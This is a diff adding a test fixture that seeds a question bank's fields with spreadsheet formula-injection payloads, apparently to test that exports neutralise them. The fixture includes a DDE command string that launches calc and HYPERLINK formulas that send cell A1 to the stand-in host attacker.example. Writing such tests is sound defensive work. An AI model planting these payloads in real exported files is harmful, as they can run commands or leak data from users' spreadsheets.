@@ -45,3 +45,35 @@ def without_lines(bank: Bank) -> Bank:
     return dataclasses.replace(
         bank, questions=tuple(dataclasses.replace(q, line=None) for q in bank.questions)
     )
+
+
+def formula_bank() -> Bank:
+    """A bank whose ids, texts and details start with spreadsheet formulas."""
+    bank = example_bank()
+    first, second, *rest = bank.questions
+    choices = tuple(
+        dataclasses.replace(c, text=t)
+        for c, t in zip(first.choices, ["@SUM(1+1)", "'=already quoted", "-2+3"], strict=False)
+    )
+    first = dataclasses.replace(
+        first,
+        # Ids have no spaces; the other classic payloads go into the texts.
+        key='=HYPERLINK("http://attacker.example")',
+        prompt="=cmd|' /C calc'!A0",
+        explanation='=HYPERLINK("http://attacker.example/?x="&A1,"Click")',
+        choices=choices,
+        tags=("-tag", "=tag"),
+        source_section="@SUM(1+1)",
+    )
+    second = dataclasses.replace(
+        second, key="-2+3", prompt="\t=1+1 in a code block", explanation="+1+1"
+    )
+    topics = (dataclasses.replace(bank.topics[0], name="+1+1", description="a;=1+1,@x"),)
+    return dataclasses.replace(
+        bank,
+        title='=HYPERLINK("http://attacker.example","Title")',
+        description="first,=1+1;+2\t-3",
+        source="@SUM(1+1)",
+        topics=topics + bank.topics[1:],
+        questions=(first, second, *rest),
+    )
